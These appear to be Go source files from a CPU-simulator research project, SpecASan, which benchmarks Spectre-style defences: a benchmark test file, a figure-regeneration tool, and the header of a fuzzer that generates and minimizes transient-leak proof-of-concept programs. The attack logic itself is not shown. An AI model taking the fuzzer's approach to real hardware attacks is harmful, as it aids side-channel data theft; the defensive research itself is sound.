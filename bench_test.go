package specasan

// One benchmark per table and figure of the paper, plus the ablation benches
// DESIGN.md calls out. The benches run reduced-scale versions of each
// experiment and report the paper's metric (normalized execution time,
// restriction percentage, verdict counts) through b.ReportMetric, so
// `go test -bench` gives a quick-look reproduction; cmd/specasan-bench
// regenerates the full-size tables.

import (
	"fmt"
	"io"
	"testing"

	"specasan/internal/asm"
	"specasan/internal/attacks"
	"specasan/internal/core"
	"specasan/internal/cpu"
	"specasan/internal/golden"
	"specasan/internal/harness"
	"specasan/internal/hwcost"
	"specasan/internal/isa"
	"specasan/internal/workloads"
)

const benchScale = 0.1

func benchOpts() harness.Options {
	opt := harness.DefaultOptions()
	opt.Scale = benchScale
	return opt
}

// runKernel executes one kernel under one mitigation and returns cycles.
func runKernel(b *testing.B, name string, mit core.Mitigation) uint64 {
	b.Helper()
	spec := workloads.ByName(name)
	if spec == nil {
		b.Fatalf("unknown kernel %s", name)
	}
	r, err := harness.RunBenchmark(spec, mit, benchOpts())
	if err != nil {
		b.Fatal(err)
	}
	return r.Cycles
}

// BenchmarkFigure1DefenseClasses contrasts the defence classes of Figure 1
// on a Spectre-v1-shaped benign loop: the reported metrics are the
// normalized execution times of delay-ACCESS (barriers), delay-USE (STT),
// delay-TRANSMIT (GhostMinion) and SpecASan's selective delay.
func BenchmarkFigure1DefenseClasses(b *testing.B) {
	for i := 0; i < b.N; i++ {
		base := runKernel(b, "500.perlbench_r", core.Unsafe)
		b.ReportMetric(float64(runKernel(b, "500.perlbench_r", core.Fence))/float64(base), "xAccessDelay")
		b.ReportMetric(float64(runKernel(b, "500.perlbench_r", core.STT))/float64(base), "xUseDelay")
		b.ReportMetric(float64(runKernel(b, "500.perlbench_r", core.GhostMinion))/float64(base), "xTransmitDelay")
		b.ReportMetric(float64(runKernel(b, "500.perlbench_r", core.SpecASan))/float64(base), "xSpecASan")
	}
}

// BenchmarkTable1SecurityMatrix runs the full attack suite against every
// Table 1 column and reports how many cells are full/partial/none. The
// expected totals for the paper's matrix are 32 full, 10 partial, 13 none.
func BenchmarkTable1SecurityMatrix(b *testing.B) {
	for i := 0; i < b.N; i++ {
		full, partial, none := 0, 0, 0
		for _, a := range attacks.All() {
			for _, mit := range attacks.TableMitigations() {
				verdict, _, err := a.Evaluate(mit)
				if err != nil {
					b.Fatal(err)
				}
				switch verdict {
				case attacks.VerdictFull:
					full++
				case attacks.VerdictPartial:
					partial++
				default:
					none++
				}
			}
		}
		b.ReportMetric(float64(full), "full")
		b.ReportMetric(float64(partial), "partial")
		b.ReportMetric(float64(none), "none")
	}
}

// figureGeomean sweeps the given kernels/mitigations at bench scale and
// reports each mitigation's geomean normalized execution time.
func figureGeomean(b *testing.B, specs []*workloads.Spec, mits []core.Mitigation) {
	b.Helper()
	for i := 0; i < b.N; i++ {
		sw, err := harness.RunSweep(specs, mits, benchOpts())
		if err != nil {
			b.Fatal(err)
		}
		for _, m := range mits {
			if m == core.Unsafe {
				continue
			}
			b.ReportMetric(sw.GeomeanNormalized(m), "x"+m.String())
		}
	}
}

// BenchmarkFigure6SPEC reproduces Figure 6: SPEC CPU2017 normalized
// execution time under barriers, STT, GhostMinion and SpecASan. Four
// representative kernels at bench scale; specasan-bench -fig 6 runs all 15.
func BenchmarkFigure6SPEC(b *testing.B) {
	specs := []*workloads.Spec{
		workloads.ByName("500.perlbench_r"), workloads.ByName("505.mcf_r"),
		workloads.ByName("508.namd_r"), workloads.ByName("523.xalancbmk_r"),
	}
	figureGeomean(b, specs, harness.Figure6Mitigations())
}

// BenchmarkFigure7PARSEC reproduces Figure 7: PARSEC (4 cores) normalized
// execution time. Two representative kernels at bench scale.
func BenchmarkFigure7PARSEC(b *testing.B) {
	specs := []*workloads.Spec{
		workloads.ByName("blackscholes"), workloads.ByName("canneal"),
	}
	figureGeomean(b, specs, harness.Figure6Mitigations())
}

// BenchmarkFigure8Restricted reproduces Figure 8: the percentage of
// committed instructions each mitigation delayed.
func BenchmarkFigure8Restricted(b *testing.B) {
	specs := []*workloads.Spec{
		workloads.ByName("500.perlbench_r"), workloads.ByName("505.mcf_r"),
		workloads.ByName("541.leela_r"),
	}
	for i := 0; i < b.N; i++ {
		sw, err := harness.RunSweep(specs, harness.Figure8Mitigations(), benchOpts())
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(sw.MeanRestrictedPct(core.Fence), "%barrier")
		b.ReportMetric(sw.MeanRestrictedPct(core.STT), "%stt")
		b.ReportMetric(sw.MeanRestrictedPct(core.SpecASan), "%specasan")
	}
}

// BenchmarkFigure9CFI reproduces Figure 9: SpecCFI, SpecASan, and their
// combination, normalized to the unsafe baseline.
func BenchmarkFigure9CFI(b *testing.B) {
	specs := []*workloads.Spec{
		workloads.ByName("500.perlbench_r"), workloads.ByName("525.x264_r"),
		workloads.ByName("511.povray_r"),
	}
	figureGeomean(b, specs, harness.Figure9Mitigations())
}

// BenchmarkTable3HardwareCost evaluates the hardware-cost model and reports
// the headline totals (percent core area overhead).
func BenchmarkTable3HardwareCost(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows := hwcost.Model()
		for _, r := range rows {
			if r.Component == "Total Core" && r.Metric == "Area Overhead (%)" {
				b.ReportMetric(r.MTE, "%mte")
				b.ReportMetric(r.SpecASan, "%specasan")
				b.ReportMetric(r.SpecCFI, "%specasan+cfi")
			}
		}
	}
}

// --- Ablations (design choices DESIGN.md calls out) -----------------------

// ablationCycles runs one kernel under SpecASan with a tweaked config.
func ablationCycles(b *testing.B, name string, tweak func(*core.Config)) uint64 {
	b.Helper()
	spec := workloads.ByName(name)
	prog, err := spec.Build(true, benchScale)
	if err != nil {
		b.Fatal(err)
	}
	cfg := core.DefaultConfig()
	cfg.Cores = spec.Threads
	if tweak != nil {
		tweak(&cfg)
	}
	m, err := cpu.NewMachine(cfg, core.SpecASan, prog)
	if err != nil {
		b.Fatal(err)
	}
	for i := 0; i < spec.Threads; i++ {
		m.Core(i).SetReg(isa.X0, uint64(i))
	}
	res := m.Run(500_000_000)
	if res.TimedOut || res.Faulted {
		b.Fatalf("ablation run failed: %v", res)
	}
	return res.Cycles
}

// BenchmarkAblationSelectiveDelay compares SpecASan's selective delay (only
// tag-mismatching speculative accesses wait) against delaying every tagged
// speculative load — quantifying the value of §3.4's design choice.
func BenchmarkAblationSelectiveDelay(b *testing.B) {
	for i := 0; i < b.N; i++ {
		sel := ablationCycles(b, "505.mcf_r", nil)
		all := ablationCycles(b, "505.mcf_r", func(c *core.Config) { c.SelectiveDelay = false })
		b.ReportMetric(float64(all)/float64(sel), "xDelayAll")
	}
}

// BenchmarkAblationBroadcastLatency varies the ROB dependent-marking
// broadcast latency (§3.4: one cycle in a small ROB, multiple in a large
// one). Benign code exercises the broadcast only on rare unsafe accesses,
// so a ratio of ~1.0 is itself the finding: the marking latency is off the
// critical path, as the paper argues for small ROBs.
func BenchmarkAblationBroadcastLatency(b *testing.B) {
	for i := 0; i < b.N; i++ {
		fast := ablationCycles(b, "523.xalancbmk_r", nil)
		slow := ablationCycles(b, "523.xalancbmk_r", func(c *core.Config) { c.BroadcastLatency = 8 })
		b.ReportMetric(float64(slow)/float64(fast), "xBroadcast8")
	}
}

// BenchmarkAblationLFBTags measures the security value of the LFB tagging
// extension: with it the RIDL stale forward is refused, without it the
// attack leaks even under SpecASan.
func BenchmarkAblationLFBTags(b *testing.B) {
	for i := 0; i < b.N; i++ {
		leaksWith, leaksWithout := 0, 0
		for _, on := range []bool{true, false} {
			v := attacks.RIDL().Variants[0]
			sc, err := v.Build()
			if err != nil {
				b.Fatal(err)
			}
			cfg := core.DefaultConfig()
			cfg.LFBTagging = on
			m, err := cpu.NewMachine(cfg, core.SpecASan, sc.Prog)
			if err != nil {
				b.Fatal(err)
			}
			sc.Setup(m)
			m.Run(2_000_000)
			if m.Oracle.Leaked() {
				if on {
					leaksWith++
				} else {
					leaksWithout++
				}
			}
		}
		b.ReportMetric(float64(leaksWith), "leaksWithLFBTags")
		b.ReportMetric(float64(leaksWithout), "leaksWithoutLFBTags")
	}
}

// BenchmarkSimulatorThroughput reports raw simulation speed in simulated
// instructions per wall-clock second.
func BenchmarkSimulatorThroughput(b *testing.B) {
	spec := workloads.ByName("508.namd_r")
	prog, err := spec.Build(false, benchScale)
	if err != nil {
		b.Fatal(err)
	}
	var insts uint64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		m, err := cpu.NewMachine(core.DefaultConfig(), core.Unsafe, prog)
		if err != nil {
			b.Fatal(err)
		}
		res := m.Run(500_000_000)
		insts += res.Committed
	}
	b.StopTimer()
	b.ReportMetric(float64(insts)/b.Elapsed().Seconds(), "sim-insts/s")
}

// BenchmarkGoldenThroughput reports the functional golden interpreter's
// speed in simulated instructions per wall-clock second — the fast-forward
// engine sampled simulation rides on. Compare against
// BenchmarkSimulatorThroughput for the functional-vs-detailed speed ratio
// (the headroom sampling converts into wall-clock).
func BenchmarkGoldenThroughput(b *testing.B) {
	spec := workloads.ByName("508.namd_r")
	prog, err := spec.Build(false, 10)
	if err != nil {
		b.Fatal(err)
	}
	var insts uint64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res := golden.New(prog).Run(1 << 62)
		if res.Reason != golden.StopExit {
			b.Fatalf("walk ended %v", res.Reason)
		}
		insts += res.Insts
	}
	b.StopTimer()
	b.ReportMetric(float64(insts)/b.Elapsed().Seconds(), "sim-insts/s")
}

// BenchmarkSampledSweep runs the Figure 6 workload set under windowed
// fast-forward sampling — the wall-clock configuration BENCH_sim.json's
// speedup_vs_full entry certifies at full scale.
func BenchmarkSampledSweep(b *testing.B) {
	specs := []*workloads.Spec{
		workloads.ByName("500.perlbench_r"), workloads.ByName("505.mcf_r"),
		workloads.ByName("508.namd_r"), workloads.ByName("523.xalancbmk_r"),
	}
	opt := benchOpts()
	opt.SampleWindows = 4
	opt.SampleWindowInsts = 10_000
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := harness.RunSweep(specs, harness.Figure6Mitigations(), opt); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkSecurityMatrixFormat exercises the full harness path end to end
// (build every PoC, run every cell, format the table).
func BenchmarkSecurityMatrixFormat(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if err := harness.SecurityMatrix(io.Discard); err != nil {
			b.Fatal(err)
		}
	}
}

// Example of the public API, compiled as part of the test suite.
func Example() {
	prog := MustAssemble(`
_start:
    MOV X0, #41
    ADD X0, X0, #1
    SVC #1
    SVC #0
`)
	m, err := NewMachine(DefaultConfig(), SpecASan, prog)
	if err != nil {
		panic(err)
	}
	m.Run(100_000)
	fmt.Printf("%s", m.Core(0).Output)
	// Output: 42
}

// BenchmarkAblationPrefetcher quantifies the §6 prefetcher extension: the
// speedup of next-line prefetching on a streaming kernel, and that the
// checked variant (which refuses to cross allocation-tag boundaries) keeps
// almost all of it.
func BenchmarkAblationPrefetcher(b *testing.B) {
	run := func(on, checked bool) uint64 {
		// A unit-stride streaming kernel: the next-line prefetcher's home turf.
		src := workloads.Generate(workloads.Params{
			WorkingSetKB: 256, Iterations: 2000, Stride: 1, ComputeOps: 4,
		}, 1, true)
		prog, err := asm.Assemble(src)
		if err != nil {
			b.Fatal(err)
		}
		cfg := core.DefaultConfig()
		cfg.PrefetcherOn = on
		cfg.PrefetchChecked = checked
		m, err := cpu.NewMachine(cfg, core.SpecASan, prog)
		if err != nil {
			b.Fatal(err)
		}
		res := m.Run(500_000_000)
		if res.TimedOut || res.Faulted {
			b.Fatalf("prefetch ablation run failed: %v", res)
		}
		return res.Cycles
	}
	for i := 0; i < b.N; i++ {
		off := run(false, false)
		plain := run(true, false)
		checked := run(true, true)
		b.ReportMetric(float64(off)/float64(plain), "xSpeedupUnchecked")
		b.ReportMetric(float64(off)/float64(checked), "xSpeedupChecked")
		leakPlain, err := attacks.RunPrefetchLeak(core.SpecASan, false)
		if err != nil {
			b.Fatal(err)
		}
		leakChecked, err := attacks.RunPrefetchLeak(core.SpecASan, true)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(b2f(leakPlain), "leaksUnchecked")
		b.ReportMetric(b2f(leakChecked), "leaksChecked")
	}
}

func b2f(v bool) float64 {
	if v {
		return 1
	}
	return 0
}

// BenchmarkAblationEarlyTagCheck quantifies §3.3.1's early tag-check
// propagation (dedicated L1 signal, MSHR flag): without it, every checked
// load's data release waits for a core-side re-check.
func BenchmarkAblationEarlyTagCheck(b *testing.B) {
	for i := 0; i < b.N; i++ {
		early := ablationCycles(b, "544.nab_r", nil)
		late := ablationCycles(b, "544.nab_r", func(c *core.Config) { c.EarlyTagCheck = false })
		b.ReportMetric(float64(late)/float64(early), "xLateCheck")
	}
}
