// specasan-bench regenerates the paper's performance figures:
//
//	-fig 6   SPEC CPU2017 normalized execution time (Barriers/STT/GhostMinion/SpecASan)
//	-fig 7   PARSEC (4 cores) normalized execution time
//	-fig 8   restricted speculative instructions (SPEC and PARSEC)
//	-fig 9   SpecCFI vs SpecASan vs SpecASan+CFI on SPEC
//	-fig 1   defence-class timing comparison on a Spectre-v1 gadget
//	-all     everything
//	-perf    measure the simulator itself and write BENCH_sim.json
//
// Sweeps run their cells on a bounded worker pool (-workers, default
// GOMAXPROCS); output is byte-identical to -workers=1. Within one machine,
// -parallel-cores steps simulated cores on their own goroutines (also
// byte-identical to serial). The -perf sweep legs take their pool size from
// -sweep-workers, recorded in the report. -cpuprofile and -memprofile
// capture stdlib pprof profiles of the run.
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"

	"specasan/internal/attacks"
	"specasan/internal/core"
	"specasan/internal/cpu"
	"specasan/internal/harness"
	"specasan/internal/obs"
	"specasan/internal/prof"
	"specasan/internal/scenario"
	"specasan/internal/store"
	"specasan/internal/workloads"
)

// perfSteps is the steady-state step count behind the -perf single-core
// measurement: long enough to amortise timer noise, short enough to finish
// in about a second.
const perfSteps = 500_000

func main() {
	scen := flag.String("scenario", "",
		"run the sweep a scenario describes (preset name or file); incompatible with -fig/-all/-perf")
	fig := flag.Int("fig", 0, "figure to regenerate (1, 6, 7, 8, 9)")
	all := flag.Bool("all", false, "regenerate every figure")
	perf := flag.Bool("perf", false, "measure simulator performance and write a BENCH_sim.json report")
	perfOut := flag.String("perf-out", "BENCH_sim.json", "where -perf writes its report")
	perfNote := flag.String("perf-note", "",
		"override the -perf history entry's description (default: a summary of the active fast paths)")
	scale := flag.Float64("scale", 1.0, "kernel iteration scale")
	workers := flag.Int("workers", 0, "sweep worker pool size (0 = GOMAXPROCS, 1 = serial)")
	sweepWorkers := flag.Int("sweep-workers", 0,
		"worker pool size for the -perf sweep legs (0 = GOMAXPROCS); the resolved value is recorded in the report")
	parallelCores := flag.Int("parallel-cores", 0,
		"intra-machine core stepping: 0 = auto (goroutine per simulated core when GOMAXPROCS > 1), 1 = force serial, >= 2 = force parallel; results are bit-identical either way")
	traceCell := flag.String("trace", "", "record a Chrome trace of one sweep cell, named benchmark/mitigation (e.g. 505.mcf_r/SpecASan)")
	traceOut := flag.String("trace-out", "trace.json", "where -trace writes its Chrome trace-event JSON")
	metricsOut := flag.String("metrics-out", "", "write per-cell metrics records (JSONL, cell order) to this file")
	cpuProfile := flag.String("cpuprofile", "", "write a CPU profile to this file")
	memProfile := flag.String("memprofile", "", "write a heap profile to this file")
	skipIdle := flag.Bool("skip-idle", true, "event-driven idle-cycle skipping (exactness-preserving; off walks every cycle)")
	fastForward := flag.Uint64("fast-forward", 0,
		"fast-forward this many instructions functionally before detailed simulation (0 = fully detailed; committed counts and output stay exact, cycles become an estimate)")
	sampleWindows := flag.Int("sample-windows", 0,
		"simulate this many evenly-spaced detailed windows and extrapolate cycles from their pooled IPC (requires -sample-window-insts; <=1 = tail mode / off)")
	sampleWindowInsts := flag.Uint64("sample-window-insts", 0,
		"instructions per detailed window for -sample-windows")
	warmupCycles := flag.Uint64("warmup-cycles", 0,
		"detailed warmup cycles excluded before each sampled measurement (0 = default 2000)")
	traceRecord := flag.Bool("trace-record", false,
		"for -scenario sweeps with -store: record each cell's workload build as a replayable trace if one is not stored yet (the run itself still live-decodes)")
	traceReplay := flag.Bool("trace-replay", false,
		"for -scenario sweeps with -store: fetch through recorded traces instead of assembling (bit-identical results; errors on a missing trace unless -trace-record is also set)")
	storeDir := flag.String("store", "",
		"result-store directory for -scenario sweeps: verified cached cells are served without simulating, cold cells persist (ignored by -fig/-all/-perf, which are pinned measurements)")
	storeMaxBytes := flag.Int64("store-max-bytes", 0,
		"prune the -store directory to at most this many entry bytes on open, oldest entries first (0 = unbounded)")
	verbose := flag.Bool("v", false, "log each run")
	flag.Parse()

	stopProf, err := prof.Start(*cpuProfile, *memProfile)
	if err != nil {
		fmt.Fprintln(os.Stderr, "specasan-bench:", err)
		os.Exit(1)
	}
	defer func() {
		if err := stopProf(); err != nil {
			fmt.Fprintln(os.Stderr, "specasan-bench:", err)
		}
	}()

	opt := harness.DefaultOptions()
	opt.Scale = *scale
	opt.Verbose = *verbose
	opt.Log = os.Stderr
	opt.Workers = *workers
	opt.ParallelCores = *parallelCores
	opt.NoSkipIdle = !*skipIdle
	opt.FastForwardInsts = *fastForward
	opt.SampleWindows = *sampleWindows
	opt.SampleWindowInsts = *sampleWindowInsts
	opt.WarmupCycles = *warmupCycles
	opt.TraceRecord = *traceRecord
	opt.TraceReplay = *traceReplay

	if *metricsOut != "" {
		f, err := os.Create(*metricsOut)
		if err != nil {
			fatal(err)
		}
		defer func() {
			if err := f.Close(); err != nil {
				fmt.Fprintln(os.Stderr, "specasan-bench:", err)
			}
		}()
		opt.Metrics = f
	}
	// The trace hook fires on the first sweep cell matching bench/mitigation.
	// Sweeps run one after another, so with -all a cell appearing in several
	// figures is traced each time and the last run's trace is written.
	var tr *obs.Tracer
	if *traceCell != "" {
		wantBench, wantMit, ok := strings.Cut(*traceCell, "/")
		if !ok {
			fatal(fmt.Errorf("-trace wants benchmark/mitigation, got %q", *traceCell))
		}
		opt.Attach = func(bench string, mit core.Mitigation, m *cpu.Machine) {
			if bench != wantBench || mit.String() != wantMit {
				return
			}
			t := obs.NewTracer(len(m.Cores), 0)
			m.AttachObs(t, nil)
			tr = t
		}
		defer func() {
			if tr == nil {
				fmt.Fprintf(os.Stderr, "specasan-bench: -trace cell %q never ran\n", *traceCell)
				return
			}
			if err := writeTrace(*traceOut, tr); err != nil {
				fmt.Fprintln(os.Stderr, "specasan-bench:", err)
				return
			}
			fmt.Fprintf(os.Stderr, "specasan-bench: trace of %s: %s (%d events, %d dropped)\n",
				*traceCell, *traceOut, tr.Recorded(), tr.Dropped())
		}()
	}

	if *scen != "" {
		if *fig != 0 || *all || *perf {
			fatal(fmt.Errorf("-scenario is a complete sweep description; combine overrides into the scenario instead of -fig/-all/-perf"))
		}
		if (*traceRecord || *traceReplay) && *storeDir == "" {
			fatal(fmt.Errorf("-trace-record/-trace-replay need -store (traces live in the artifact store)"))
		}
		if *storeDir != "" {
			st, err := store.Open(*storeDir)
			if err != nil {
				fatal(err)
			}
			if st.ReadOnly() {
				fmt.Fprintf(os.Stderr, "specasan-bench: store %s is read-only: serving cached results, not persisting new ones\n", *storeDir)
			}
			if removed, freed, err := st.Prune(*storeMaxBytes); err != nil {
				fmt.Fprintln(os.Stderr, "specasan-bench:", err)
			} else if removed > 0 {
				fmt.Fprintf(os.Stderr, "specasan-bench: store pruned %d entries (%d bytes) to fit -store-max-bytes=%d\n",
					removed, freed, *storeMaxBytes)
			}
			opt.Store = harness.DiskCellStore{S: st}
			opt.Artifacts = st
		}
		explicit := map[string]bool{}
		flag.Visit(func(f *flag.Flag) { explicit[f.Name] = true })
		runScenario(*scen, opt, explicit)
		return
	}
	if *storeDir != "" {
		// -fig/-all reproduce the paper's pinned figures and -perf measures
		// the simulator itself; serving any of them from a cache would
		// defeat the point.
		fmt.Fprintln(os.Stderr, "specasan-bench: -store only applies to -scenario sweeps; ignored")
	}
	if *traceRecord || *traceReplay {
		// Same pinned-measurement argument as -store: replay is bit-identical
		// so it would be safe, but the figures stay on the canonical path.
		fmt.Fprintln(os.Stderr, "specasan-bench: -trace-record/-trace-replay only apply to -scenario sweeps; ignored")
		opt.TraceRecord, opt.TraceReplay = false, false
	}

	if *perf {
		// -perf measures the simulator itself; instrumentation would skew it.
		opt.Metrics = nil
		opt.Attach = nil
		// The sweep leg of the measurement is exactly the figure6 scenario at
		// this run's scale; stamp its hash so the history's regression gate
		// can tell comparable entries apart.
		ps, _ := scenario.Preset(scenario.PresetFigure6)
		ps.Run.Scale = opt.Scale
		ps.Run.SkipIdle = !opt.NoSkipIdle
		opt.ScenarioHash = ps.Hash()
		// The sweep legs' pool size is an explicit, recorded choice now —
		// -sweep-workers, not a silent GOMAXPROCS pin inside MeasurePerf.
		opt.Workers = *sweepWorkers
		runPerf(*perfOut, *perfNote, opt)
		return
	}

	run := func(n int) {
		switch n {
		case 1:
			figure1()
		case 6:
			sw := sweep(workloads.SPEC(), harness.Figure6Mitigations(), opt)
			fmt.Println(sw.FormatNormalized("Figure 6: SPEC CPU2017, normalized execution time (unsafe baseline = 1.0)"))
		case 7:
			sw := sweep(workloads.PARSEC(), harness.Figure6Mitigations(), opt)
			fmt.Println(sw.FormatNormalized("Figure 7: PARSEC (4 cores), normalized execution time (unsafe baseline = 1.0)"))
		case 8:
			sw := sweep(workloads.SPEC(), harness.Figure8Mitigations(), opt)
			fmt.Println(sw.FormatRestricted("Figure 8 (top): SPEC CPU2017, restricted speculative instructions"))
			sw = sweep(workloads.PARSEC(), harness.Figure8Mitigations(), opt)
			fmt.Println(sw.FormatRestricted("Figure 8 (bottom): PARSEC, restricted speculative instructions"))
		case 9:
			sw := sweep(workloads.SPEC(), harness.Figure9Mitigations(), opt)
			fmt.Println(sw.FormatNormalized("Figure 9: SPEC CPU2017, CFI combinations, normalized execution time"))
		default:
			fmt.Fprintln(os.Stderr, "specasan-bench: pick -fig 1|6|7|8|9 or -all")
			os.Exit(2)
		}
	}
	if *all {
		for _, n := range []int{1, 6, 7, 8, 9} {
			run(n)
		}
		return
	}
	run(*fig)
}

// runScenario runs the sweep a scenario describes and renders it as a
// normalized-execution-time table. Explicitly-typed -scale/-workers/
// -parallel-cores/-skip-idle/-fast-forward/-sample-windows/
// -sample-window-insts/-warmup-cycles/-trace-record/-trace-replay flags
// override the scenario's run options; everything else
// (machine, mitigation columns, workload rows) comes from the scenario. The
// effective hash is printed on stderr and stamped into -metrics-out records.
func runScenario(arg string, opt harness.Options, explicit map[string]bool) {
	s, err := scenario.Load(arg)
	if err != nil {
		fatal(err)
	}
	if explicit["scale"] {
		s.Run.Scale = opt.Scale
	}
	if explicit["workers"] {
		s.Run.Workers = opt.Workers
	}
	if explicit["parallel-cores"] {
		s.Run.ParallelCores = opt.ParallelCores
	}
	if explicit["skip-idle"] {
		s.Run.SkipIdle = !opt.NoSkipIdle
	}
	if explicit["fast-forward"] {
		s.Run.FastForwardInsts = opt.FastForwardInsts
	}
	if explicit["sample-windows"] {
		s.Run.SampleWindows = opt.SampleWindows
	}
	if explicit["sample-window-insts"] {
		s.Run.SampleWindowInsts = opt.SampleWindowInsts
	}
	if explicit["warmup-cycles"] {
		s.Run.WarmupCycles = opt.WarmupCycles
	}
	if explicit["trace-record"] {
		s.Run.TraceRecord = opt.TraceRecord
	}
	if explicit["trace-replay"] {
		s.Run.TraceReplay = opt.TraceReplay
	}
	if err := s.Validate(); err != nil {
		fatal(err)
	}
	hash := s.Hash()
	fmt.Fprintf(os.Stderr, "specasan-bench: scenario %s (hash %s)\n", s.Name, hash)
	sw, err := harness.RunScenarioSweep(s, opt)
	if err != nil {
		fatal(err)
	}
	for _, f := range sw.FailedCells() {
		fmt.Fprintln(os.Stderr, "specasan-bench: cell failed:", f)
	}
	fmt.Println(sw.FormatNormalized(fmt.Sprintf(
		"Scenario %s (hash %s): normalized execution time (unsafe baseline = 1.0)",
		s.Name, hash)))
}

// runPerf measures the simulator substrate itself — steady-state single-core
// throughput and serial-vs-parallel sweep wall time — and writes the
// BENCH_sim.json report (format documented in README.md).
func runPerf(path, note string, opt harness.Options) {
	rep, err := harness.MeasurePerf(perfSteps, workloads.SPEC(), harness.Figure6Mitigations(), opt)
	if err != nil {
		fmt.Fprintln(os.Stderr, "specasan-bench:", err)
		os.Exit(1)
	}
	desc := "event-driven idle skipping + flat memory/tag/cache paths"
	if opt.NoSkipIdle {
		desc = "flat memory/tag/cache paths (idle skipping disabled)"
	}
	if note != "" {
		desc = note
	}
	if err := rep.AppendHistory(path, desc); err != nil {
		fmt.Fprintln(os.Stderr, "specasan-bench:", err)
		os.Exit(1)
	}
	if err := rep.WriteJSON(path); err != nil {
		fmt.Fprintln(os.Stderr, "specasan-bench:", err)
		os.Exit(1)
	}
	notice, regressed := rep.RegressionVsPrevious()
	fmt.Printf("single core: %.0f ns/cycle, %.3f simulated MIPS, %.4f allocs/committed instr (%s)\n",
		rep.SingleCore.HostNsPerCycle, rep.SingleCore.SimMIPS,
		rep.SingleCore.AllocsPerCommitted, rep.SingleCore.Workload)
	fmt.Printf("vs baseline: %.2fx (%.0f ns/cycle before)\n",
		rep.SingleCoreSpeedup, rep.Baseline.HostNsPerCycle)
	fmt.Printf("golden:      %.1f simulated MIPS functional (%s)\n",
		rep.Golden.SimMIPS, rep.Golden.Workload)
	fmt.Printf("sweep:       %d cells in %.2fs on %d workers vs %.2fs serial (%.2fx)\n",
		rep.Sweep.Cells, rep.Sweep.WallSeconds, rep.Sweep.Workers,
		rep.Sweep.SerialWallSeconds, rep.Sweep.Speedup)
	fmt.Printf("sampled:     %d windows x %d insts: %.2fs vs %.2fs full (%.2fx, max IPC delta %.2f%%)\n",
		rep.SampledSweep.Windows, rep.SampledSweep.WindowInsts,
		rep.SampledSweep.SampledWallSeconds, rep.SampledSweep.FullWallSeconds,
		rep.SampledSweep.Speedup, rep.SampledSweep.MaxIPCDeltaPct)
	fmt.Printf("multicore:   %s on %d cores: %.2fs parallel vs %.2fs serial (%.2fx at GOMAXPROCS=%d)\n",
		rep.Multicore.Workload, rep.Multicore.Cores,
		rep.Multicore.ParallelWallSeconds, rep.Multicore.SerialWallSeconds,
		rep.Multicore.Speedup, rep.Multicore.GoMaxProcs)
	fmt.Printf("replay:      %.1f ns/inst from trace vs %.1f live decode (%.2fx, %s)\n",
		rep.Replay.ReplayNsPerInst, rep.Replay.DecodeNsPerInst,
		rep.Replay.Overhead, rep.Replay.Workload)
	fmt.Printf("report:      %s\n", path)
	fmt.Println(notice)
	if regressed {
		os.Exit(1)
	}
}

// writeTrace dumps the recorded event trace as Chrome trace-event JSON.
func writeTrace(path string, tr *obs.Tracer) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := obs.WriteChromeTrace(f, tr); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "specasan-bench:", err)
	os.Exit(1)
}

func sweep(specs []*workloads.Spec, mits []core.Mitigation, opt harness.Options) *harness.Sweep {
	sw, err := harness.RunSweep(specs, mits, opt)
	if err != nil {
		// Every cell failed — nothing to format.
		fmt.Fprintln(os.Stderr, "specasan-bench:", err)
		os.Exit(1)
	}
	// Individual failed cells are footnoted by the formatters; warn on
	// stderr too so scripted runs notice.
	for _, f := range sw.FailedCells() {
		fmt.Fprintln(os.Stderr, "specasan-bench: cell failed:", f)
	}
	return sw
}

// figure1 contrasts the defence classes on the Spectre-v1 gadget: where in
// the ACCESS/USE/TRANSMIT chain each defence stops the attack, and what the
// benign-path timing cost of that choice is.
func figure1() {
	fmt.Println("Figure 1: defence classes on the Spectre-v1 gadget")
	fmt.Println()
	fmt.Printf("%-13s %-18s %-14s %s\n", "defence", "class", "gadget blocked", "benign v1-shaped loop (cycles)")
	v := attacks.SpectrePHT().Variants[0]
	for _, mit := range []core.Mitigation{core.Unsafe, core.Fence, core.STT, core.GhostMinion, core.SpecASan} {
		out, err := attacks.RunVariant(v, mit)
		if err != nil {
			fmt.Fprintln(os.Stderr, "specasan-bench:", err)
			os.Exit(1)
		}
		cycles := benignLoop(mit)
		fmt.Printf("%-13s %-18s %-14v %d\n", mit, mit.Descriptor().Class, !out.Leaked, cycles)
	}
	fmt.Println()
}

// benignLoop measures a benign bounds-checked loop (the victim code of
// Listing 1 with in-bounds indices) under a mitigation.
func benignLoop(mit core.Mitigation) uint64 {
	spec := workloads.ByName("500.perlbench_r")
	prog, err := spec.Build(mit.MTEEnabled(), 0.1)
	if err != nil {
		fmt.Fprintln(os.Stderr, "specasan-bench:", err)
		os.Exit(1)
	}
	m, err := cpu.NewMachine(core.DefaultConfig(), mit, prog)
	if err != nil {
		fmt.Fprintln(os.Stderr, "specasan-bench:", err)
		os.Exit(1)
	}
	return m.Run(100_000_000).Cycles
}
