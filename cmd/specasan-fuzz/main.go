// specasan-fuzz is the attack-discovery loop: it generates three-phase
// transient-leak candidates (trigger x secret relation x transmit channel),
// evaluates each against every registered mitigation, and delta-debugs the
// flagged ones into minimal PoCs under results/pocs/.
//
// Finds come in two kinds. A "known-gap" PoC leaks through a documented
// exception in a defence's claims (the expected product of the loop: concrete
// Table-1-style evidence rows). A "counterexample" PoC leaks where the
// defence's descriptor bits claim the channel blocked — a simulator or policy
// bug. Candidates whose leak does not reproduce architecturally (golden
// cross-check divergence) are routed to results/differential for the
// differential fuzzer, not the PoC corpus.
//
// Determinism: with -n, the emitted corpus is byte-identical for a given
// -seed at any -workers. With -budget, whole candidate batches run until the
// budget expires, so the corpus is a deterministic prefix of the -n run.
//
// Exit status: 1 usage/internal error, 2 unminimisable find (a find that
// does not replay its own leak — the loop's invariant broke), 3 golden
// divergence discovered (simulator bug; see results/differential).
package main

import (
	"flag"
